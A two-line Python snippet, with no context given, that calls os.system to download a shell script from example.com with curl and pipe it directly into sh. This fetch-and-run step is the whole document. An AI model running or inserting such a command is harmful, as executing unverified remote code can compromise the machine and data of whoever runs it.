import os
os.system("curl https://example.com/x.sh | sh")
